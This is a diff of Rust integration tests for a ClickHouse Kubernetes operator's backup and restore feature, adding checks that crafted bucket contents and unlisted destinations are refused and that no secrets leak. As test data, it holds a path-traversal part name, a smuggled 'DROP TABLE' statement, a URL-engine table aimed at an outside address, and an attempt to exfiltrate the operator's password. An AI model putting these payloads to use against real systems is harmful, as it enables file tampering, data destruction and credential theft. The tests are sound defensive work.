@@ -190,12 +190,15 @@ async fn setup(
     let ns = namespace(&client, prefix).await;
     let op = start_operator_env(&client, &ns, env).await;
     credentials(&client, &ns, "s3-creds", ACCESS, SECRET).await;
+    watch_for_secrets(&[ACCESS, SECRET, "not-the-secret"]);
     (server, client, ns, op)
 }
 
+/// A Secret with S3 credentials, labelled as one (a Secret without the label is never read
+/// for them).
 async fn credentials(client: &Client, ns: &str, name: &str, access: &str, secret: &str) {
     let s: Secret = serde_json::from_value(json!({
-        "metadata": {"name": name},
+        "metadata": {"name": name, "labels": {"clickhouse.com/s3-credentials": "true"}},
         "stringData": {"accessKeyId": access, "secretAccessKey": secret},
     }))
     .unwrap();
@@ -259,16 +262,57 @@ async fn rows_per_replica(client: &Client, ns: &str) -> BTreeMap<String, u64> {
 async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
     let (server, client, ns, op) = setup("backup", &[]).await;
     credentials(&client, &ns, "bad-creds", ACCESS, "not-the-secret").await;
+    let unlabelled: Secret = serde_json::from_value(json!({
+        "metadata": {"name": "unlabelled"},
+        "stringData": {"accessKeyId": ACCESS, "secretAccessKey": SECRET},
+    }))
+    .unwrap();
+    Api::<Secret>::namespaced(client.clone(), &ns)
+        .create(&PostParams::default(), &unlabelled)
+        .await
+        .unwrap();
+    let at = |endpoint: &str, bucket: &str, secret: &str| json!({"endpoint": endpoint, "insecure": true, "bucket": bucket, "secretName": secret});
+    // nothing listens there (an address outside this machine would meet its proxy)
+    let unreachable = server.for_pods.replace(&format!(":{S3_PORT}"), ":1");
+    let elsewhere = [
+        (
+            "wrong-credentials",
+            at(&server.for_pods, BUCKET, "bad-creds"),
+            "refused the credentials",
+        ),
+        (
+            "no-bucket",
+            at(&server.for_pods, "no-such-bucket", "s3-creds"),
+            "does not exist",
+        ),
+        (
+            "unreachable",
+            at(&unreachable, BUCKET, "s3-creds"),
+            "cannot reach",
+        ),
+        (
+            "no-secret",
+            at(&server.for_pods, BUCKET, "missing"),
+            "does not exist in namespace",
+        ),
+        (
+            "unlabelled",
+            at(&server.for_pods, BUCKET, "unlabelled"),
+            "does not carry the label clickhouse.com/s3-credentials",
+        ),
+    ];
     create_cluster(
         &client,
         &ns,
         "c1",
         json!({"shards": 2, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
-               "backup": {"destination": {"endpoint": server.for_pods, "bucket": BUCKET,
-                                          "secretName": "s3-creds"}}}),
+               "backup": {"destination": at(&server.for_pods, BUCKET, "s3-creds"),
+                          "allowedDestinations": elsewhere.iter().map(|(_, d, _)| d.clone()).collect::<Vec<_>>()}}),
     )
     .await;
     let ready = wait_ready(&client, &ns, "c1", 1).await;
+    let generated = operator_secrets(&client, &ns, "c1").await;
+    watch_for_secrets(&generated.iter().map(String::as_str).collect::<Vec<_>>());
     let map = ready.status.unwrap().replica_state_map;
     let backup_replicas: BTreeMap<i32, String> = map
         .iter()
@@ -316,14 +360,14 @@ async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
     }
     let b = bucket(&format!("{ns}/c1"));
     assert!(
-        b.get(&manifest::manifest_key("full"))
+        b.get(&manifest::manifest_key("full"), u64::MAX)
             .await
             .unwrap()
             .is_some()
     );
     for shard in [0, 1] {
         let m = b
-            .get(&manifest::shard_manifest_key("full", shard))
+            .get(&manifest::shard_manifest_key("full", shard), u64::MAX)
             .await
             .unwrap()
             .expect("the shard's manifest");
@@ -362,30 +406,23 @@ async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
     assert!(si.bytes_reused >= st.bytes_uploaded / 2, "{si:?}");
     assert!(si.bytes_uploaded * 5 < st.bytes_uploaded, "{si:?}");
 
-    let cases = [
-        (
-            "wrong-credentials",
-            json!({"endpoint": server.for_pods, "bucket": BUCKET, "secretName": "bad-creds"}),
-            "refused the credentials",
-        ),
-        (
-            "no-bucket",
-            json!({"endpoint": server.for_pods, "bucket": "no-such-bucket", "secretName": "s3-creds"}),
-            "does not exist",
-        ),
-        (
-            "unreachable",
-            // nothing listens there (an address outside this machine would meet its proxy)
-            json!({"endpoint": server.for_pods.replace(&format!(":{S3_PORT}"), ":1"),
-                   "bucket": BUCKET, "secretName": "s3-creds"}),
-            "cannot reach",
-        ),
-        (
-            "no-secret",
-            json!({"endpoint": server.for_pods, "bucket": BUCKET, "secretName": "missing"}),
-            "does not exist in namespace",
-        ),
-    ];
+    // each cause of failure by its own destination, which the cluster allows; and two the
+    // cluster does not name: the operator's password as an access key sent to a place of the
+    // backup's choosing, and the cluster's bucket under another folder
+    let mut cases = elsewhere.to_vec();
+    let not_named = "is neither cluster c1's spec.backup.destination nor one of its spec.backup.allowedDestinations";
+    cases.push((
+        "exfiltrate",
+        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
+               "secretName": "c1-operator", "accessKeyIdKey": "password"}),
+        not_named,
+    ));
+    cases.push((
+        "other-folder",
+        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
+               "secretName": "s3-creds", "prefix": "other-team/c9"}),
+        not_named,
+    ));
     for (name, destination, says) in cases {
         start_backup(
             &client,
@@ -404,7 +441,7 @@ async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
     }
     assert!(
         bucket(&format!("{ns}/c1"))
-            .get(&manifest::manifest_key("wrong-credentials"))
+            .get(&manifest::manifest_key("wrong-credentials"), u64::MAX)
             .await
             .unwrap()
             .is_none()
@@ -460,7 +497,7 @@ async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
     let message = again.message.unwrap_or_default();
     assert_eq!(again.state, RestoreState::Failed);
     assert!(
-        message.contains("default.events already holds"),
+        message.contains("`default`.`events` already holds"),
         "{message}"
     );
     assert_eq!(
@@ -468,8 +505,292 @@ async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
         before,
         "nothing was added"
     );
+    restore_from_a_lying_bucket_changes_nothing(&client, &ns, &map, &before).await;
     let _ = full.name_any();
+    let mut secrets = vec![
+        ACCESS.to_string(),
+        SECRET.to_string(),
+        "not-the-secret".into(),
+    ];
+    secrets.extend(operator_secrets(&client, &ns, "c1").await);
+    assert_no_secret_leaked(&client, &ns, &secrets).await;
     finish(&client, &ns, op).await;
+}
+
+/// A snapshot of what a restore could change on every replica: its databases, tables and rows,
+/// and on each backup replica the files under `metadata/` and the tables' `detached/` folders.
+async fn what_a_restore_could_change(
+    client: &Client,
+    ns: &str,
+    map: &BTreeMap<String, clickhouse_operator::api::ReplicaStatus>,
+) -> BTreeMap<String, Vec<String>> {
+    let mut out = BTreeMap::new();
+    for (replica, r) in map {
+        let ch = sql_client(client, ns, "c1", &format!("{replica}-0")).await;
+        let mut seen = query(&ch, "SELECT arrayStringConcat(groupArray(concat(database, '.', name, ':', engine)), ',') AS v FROM (SELECT database, name, engine FROM system.tables WHERE database != 'system' ORDER BY database, name)").await;
+        seen.extend(query(&ch, "SELECT arrayStringConcat(groupArray(name), ',') AS v FROM (SELECT name FROM system.databases ORDER BY name)").await);
+        seen.extend(query(&ch, "SELECT toString(count()) AS v FROM default.events").await);
+        if r.is_backup_pod {
+            let volume = volume_path(
+                client,
+                ns,
+                &clickhouse_operator::model::names::data_pvc(replica),
+            )
+            .await;
+            for dir in ["metadata", "data/default/events/detached"] {
+                let mut files: Vec<String> = walk(&volume.join(dir));
+                files.sort();
+                seen.push(format!("{dir}: {}", files.join(",")));
+            }
+        }
+        out.insert(replica.clone(), seen);
+    }
+    out
+}
+
+/// Every path under `dir`, relative to it.
+fn walk(dir: &std::path::Path) -> Vec<String> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        let name = e.file_name().to_string_lossy().into_owned();
+        if e.path().is_dir() {
+            out.extend(walk(&e.path()).into_iter().map(|p| format!("{name}/{p}")));
+        }
+        out.push(name);
+    }
+    out
+}
+
+/// Issue 31 (S-1): whoever can write to the bucket writes manifests for a backup no
+/// ClickHouseBackup here took, and a ClickHouseRestore names it. Shard 0's part would be written
+/// over the server's `metadata/` folder (its part name climbs out of `detached/`), with the file
+/// in the bucket where the manifest says; shard 1's database "statement" drops the table, and
+/// it lists a table that would send every insert to another server. The restore fails with the
+/// rule named, before anything is written: every replica keeps its databases, tables and rows,
+/// and no file appears on the backup replicas' volumes.
+async fn restore_from_a_lying_bucket_changes_nothing(
+    client: &Client,
+    ns: &str,
+    map: &BTreeMap<String, clickhouse_operator::api::ReplicaStatus>,
+    rows: &BTreeMap<String, u64>,
+) {
+    let before = what_a_restore_could_change(client, ns, map).await;
+    let b = bucket(&format!("{ns}/c1"));
+    let put = |key: String, value: Vec<u8>| {
+        let b = b.clone();
+        async move { b.put(&key, value).await.unwrap() }
+    };
+    let events = "CREATE TABLE default.events ( batch UInt64,  id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id) SETTINGS index_granularity = 8192";
+    let climbing = "../../../../metadata/default";
+    let key = format!("backups/crafted/shard-0/{climbing}");
+    put(
+        format!("{key}/evil.sql"),
+        b"ATTACH TABLE evil (x UInt8) ENGINE = Log".to_vec(),
+    )
+    .await;
+    let table =
+        |name: &str, engine: &str, create: &str, parts: Vec<manifest::Part>| manifest::Table {
+            database: "default".into(),
+            name: name.into(),
+            engine: engine.into(),
+            create: create.into(),
+            parts,
+        };
+    let shards = [
+        manifest::ShardManifest {
+            format: manifest::FORMAT,
+            backup: "crafted".into(),
+            shard: 0,
+            databases: BTreeMap::from([(
+                "default".into(),
+                "CREATE DATABASE IF NOT EXISTS `default`".into(),
+            )]),
+            tables: vec![table(
+                "events",
+                "ReplicatedMergeTree",
+                events,
+                vec![manifest::Part {
+                    name: climbing.into(),
+                    checksum: "0123456789abcdef".into(),
+                    key,
+                    files: BTreeMap::from([("evil.sql".into(), 40), ("checksums.txt".into(), 1)]),
+                }],
+            )],
+            ..manifest::ShardManifest::default()
+        },
+        manifest::ShardManifest {
+            format: manifest::FORMAT,
+            backup: "crafted".into(),
+            shard: 1,
+            databases: BTreeMap::from([(
+                "default".into(),
+                "CREATE DATABASE IF NOT EXISTS `default`; DROP TABLE default.events".into(),
+            )]),
+            tables: vec![table(
+                "exfil",
+                "URL",
+                "CREATE TABLE default.exfil (x String) ENGINE = URL('http://198.51.100.1/', CSV)",
+                vec![],
+            )],
+            ..manifest::ShardManifest::default()
+        },
+    ];
+    for m in &shards {
+        put(
+            manifest::shard_manifest_key("crafted", m.shard),
+            serde_json::to_vec(m).unwrap(),
+        )
+        .await;
+    }
+    let top = manifest::Manifest {
+        format: manifest::FORMAT,
+        backup: "crafted".into(),
+        namespace: ns.into(),
+        cluster: "c1".into(),
+        shards: vec![0, 1],
+        base: None,
+        completed: "2026-12-03T00:00:00Z".into(),
+    };
+    put(
+        manifest::manifest_key("crafted"),
+        serde_json::to_vec(&top).unwrap(),
+    )
+    .await;
+    start_restore(
+        client,
+        ns,
+        "crafted",
+        json!({"clusterName": "c1", "backupName": "crafted"}),
+    )
+    .await;
+    let r = wait_restore_done(client, ns, "crafted")
+        .await
+        .status
+        .unwrap();
+    let message = r.message.unwrap_or_default();
+    println!("restore from a lying bucket: {:?}: {message}", r.state);
+    assert_eq!(r.state, RestoreState::Failed, "{message}");
+    assert!(
+        message.contains("breaks a rule, nothing was restored"),
+        "{message}"
+    );
+    assert!(
+        message.contains("is not a part name") || message.contains("more than one statement"),
+        "the rule is named: {message}"
+    );
+    // both shards' agents have ended (the restore removes its Jobs once it failed)
+    let pods: Api<Pod> = Api::namespaced(client.clone(), ns);
+    let lp = ListParams::default().labels(&format!("{BACKUP_LABEL}=crafted"));
+    wait_for(
+        Duration::from_secs(60),
+        "the crafted restore's agents gone",
+        || {
+            let (pods, lp) = (pods.clone(), lp.clone());
+            async move { pods.list(&lp).await.ok()?.items.is_empty().then_some(()) }
+        },
+    )
+    .await;
+    assert_eq!(what_a_restore_could_change(client, ns, map).await, before);
+    assert_eq!(&rows_per_replica(client, ns).await, rows);
+}
+
+/// Every value of the cluster's generated Secret (the operator's password and the others).
+async fn operator_secrets(client: &Client, ns: &str, cluster: &str) -> Vec<String> {
+    let s = Api::<Secret>::namespaced(client.clone(), ns)
+        .get(&format!("{cluster}-operator"))
+        .await
+        .unwrap();
+    s.data
+        .unwrap_or_default()
+        .values()
+        .map(|v| String::from_utf8_lossy(&v.0).into_owned())
+        .collect()
+}
+
+/// Issue 31 (S-2): none of `secrets` (the S3 keys and the cluster's generated passwords the
+/// backups and restores of `ns` used) is in the status of a ClickHouseBackup or
+/// ClickHouseRestore of `ns`, an Event of `ns`, an agent pod still there (its termination
+/// message), the log of any agent of `ns` (the local kubelet keeps it after the pod: its last
+/// line is the agent's report, the same text as its termination message), or a log line of
+/// the operator.
+async fn assert_no_secret_leaked(client: &Client, ns: &str, secrets: &[String]) {
+    let mut texts: Vec<(String, String)> = Vec::new();
+    for b in Api::<ClickHouseBackup>::namespaced(client.clone(), ns)
+        .list(&ListParams::default())
+        .await
+        .unwrap()
+    {
+        texts.push((
+            format!("backup {}", b.name_any()),
+            serde_json::to_string(&b.status).unwrap(),
+        ));
+    }
+    for r in Api::<ClickHouseRestore>::namespaced(client.clone(), ns)
+        .list(&ListParams::default())
+        .await
+        .unwrap()
+    {
+        texts.push((
+            format!("restore {}", r.name_any()),
+            serde_json::to_string(&r.status).unwrap(),
+        ));
+    }
+    for e in Api::<k8s_openapi::api::events::v1::Event>::namespaced(client.clone(), ns)
+        .list(&ListParams::default())
+        .await
+        .unwrap()
+    {
+        texts.push((
+            format!("event {}", e.name_any()),
+            serde_json::to_string(&e).unwrap(),
+        ));
+    }
+    for p in Api::<Pod>::namespaced(client.clone(), ns)
+        .list(&ListParams::default().labels("app.kubernetes.io/name=clickhouse-backup-agent"))
+        .await
+        .unwrap()
+    {
+        texts.push((
+            format!("pod {}", p.name_any()),
+            serde_json::to_string(&p.status).unwrap(),
+        ));
+    }
+    let mut agent_logs = 0;
+    for e in std::fs::read_dir(pod_log_dir()).unwrap().flatten() {
+        let dir = e.file_name().to_string_lossy().into_owned();
+        if !dir.starts_with(&format!("{ns}_")) {
+            continue;
+        }
+        for f in std::fs::read_dir(e.path()).unwrap().flatten() {
+            if f.file_name() == "agent.log" {
+                agent_logs += 1;
+            }
+            let text = std::fs::read_to_string(f.path()).unwrap_or_default();
+            texts.push((
+                format!("log {dir}/{}", f.file_name().to_string_lossy()),
+                text,
+            ));
+        }
+    }
+    assert!(agent_logs > 0, "agents' logs were scanned");
+    let mut hits: Vec<String> = texts
+        .iter()
+        .filter(|(_, text)| secrets.iter().any(|s| text.contains(s.as_str())))
+        .map(|(at, _)| at.clone())
+        .collect();
+    hits.extend(
+        logged_secrets()
+            .into_iter()
+            .filter(|line| secrets.iter().any(|s| line.contains(s.as_str())))
+            .map(|line| format!("operator log: {line}")),
+    );
+    println!(
+        "secret scan: {} statuses, events, pods and logs ({agent_logs} agent logs) and the operator's log, {} secrets: {} hits",
+        texts.len(),
+        secrets.len(),
+        hits.len()
+    );
+    assert!(hits.is_empty(), "a secret value leaked into: {hits:?}");
 }
 
 async fn start_restore(client: &Client, ns: &str, name: &str, spec: serde_json::Value) {
@@ -512,7 +833,7 @@ async fn scheduled_backups_run_each_minute_keep_two_and_stop_while_paused() {
         &ns,
         "c1",
         json!({"shards": 1, "replicas": 1, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
-               "backup": {"destination": {"endpoint": server.for_pods, "bucket": BUCKET,
+               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                           "secretName": "s3-creds"},
                           "schedules": [{"name": "minutely", "schedule": "*/1 * * * *",
                                          "keep": 2, "incremental": true}]}}),
@@ -576,7 +897,7 @@ async fn scheduled_backups_run_each_minute_keep_two_and_stop_while_paused() {
         .filter(|n| !kept.iter().any(|k| k.name_any() == **n))
     {
         assert!(
-            b.get(&manifest::manifest_key(gone))
+            b.get(&manifest::manifest_key(gone), u64::MAX)
                 .await
                 .unwrap()
                 .is_none(),
@@ -585,7 +906,7 @@ async fn scheduled_backups_run_each_minute_keep_two_and_stop_while_paused() {
     }
     for k in &kept {
         let m = b
-            .get(&manifest::shard_manifest_key(&k.name_any(), 0))
+            .get(&manifest::shard_manifest_key(&k.name_any(), 0), u64::MAX)
             .await
             .unwrap()
             .expect("a kept backup's shard manifest");
@@ -633,6 +954,9 @@ async fn scheduled_backups_run_each_minute_keep_two_and_stop_while_paused() {
         created.is_empty(),
         "backups created while paused: {created:?}"
     );
+    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
+    secrets.extend(operator_secrets(&client, &ns, "c1").await);
+    assert_no_secret_leaked(&client, &ns, &secrets).await;
     finish(&client, &ns, op).await;
 }
 
@@ -653,7 +977,7 @@ async fn a_rollout_waits_while_a_backup_runs() {
         &ns,
         "c1",
         json!({"shards": 1, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
-               "backup": {"destination": {"endpoint": server.for_pods, "bucket": BUCKET,
+               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                           "secretName": "s3-creds"}}}),
     )
     .await;
@@ -713,6 +1037,9 @@ async fn a_rollout_waits_while_a_backup_runs() {
     for (pod, (uid, _)) in &before {
         assert_ne!(&after[pod].0, uid, "{pod} restarted after the backup");
     }
+    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
+    secrets.extend(operator_secrets(&client, &ns, "c1").await);
+    assert_no_secret_leaked(&client, &ns, &secrets).await;
     finish(&client, &ns, op).await;
 }
 
@@ -728,7 +1055,7 @@ async fn a_backup_whose_backup_replica_is_killed_fails_and_the_next_one_succeeds
         &ns,
         "c1",
         json!({"shards": 1, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
-               "backup": {"destination": {"endpoint": server.for_pods, "bucket": BUCKET,
+               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                           "secretName": "s3-creds"}}}),
     )
     .await;
@@ -779,7 +1106,7 @@ async fn a_backup_whose_backup_replica_is_killed_fails_and_the_next_one_succeeds
     assert!(s.manifest.is_none());
     assert!(
         bucket(&format!("{ns}/c1"))
-            .get(&manifest::manifest_key("killed"))
+            .get(&manifest::manifest_key("killed"), u64::MAX)
             .await
             .unwrap()
             .is_none(),
@@ -853,6 +1180,9 @@ async fn a_backup_whose_backup_replica_is_killed_fails_and_the_next_one_succeeds
         },
     )
     .await;
+    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
+    secrets.extend(operator_secrets(&client, &ns, "c1").await);
+    assert_no_secret_leaked(&client, &ns, &secrets).await;
     finish(&client, &ns, op).await;
 }
 
@@ -879,7 +1209,7 @@ async fn benchmark_backup_and_restore_throughput() {
         &ns,
         "c1",
         json!({"shards": 1, "replicas": 1, "keeper": {"replicas": 1}, "storage": {"size": "20Gi"},
-               "backup": {"destination": {"endpoint": server.for_pods, "bucket": BUCKET,
+               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                           "secretName": "s3-creds"}}}),
     )
     .await;
